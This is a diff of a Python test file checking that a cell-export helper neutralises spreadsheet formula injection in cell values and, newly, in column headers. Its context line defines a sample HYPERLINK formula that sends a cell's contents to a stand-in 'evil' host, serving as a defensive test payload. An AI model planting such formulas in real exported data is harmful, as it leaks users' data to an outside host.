@@ -23,6 +23,8 @@ LINK = '=HYPERLINK("http://evil/?"&A1,"open")'
 def test_no_text_is_a_formula_to_a_spreadsheet(text: str) -> None:
     rows = as_cells([{"event": text, "reward": -0.5}])
     assert rows.to_dict("records") == [{"event": f"'{text}", "reward": -0.5}]
+    heads = as_cells(pd.DataFrame({text: pd.Categorical([text, "a"]), "n": [1, 2]}))
+    assert heads.to_dict("list") == {f"'{text}": [f"'{text}", "a"], "n": [1, 2]}
 
 
 @pytest.fixture
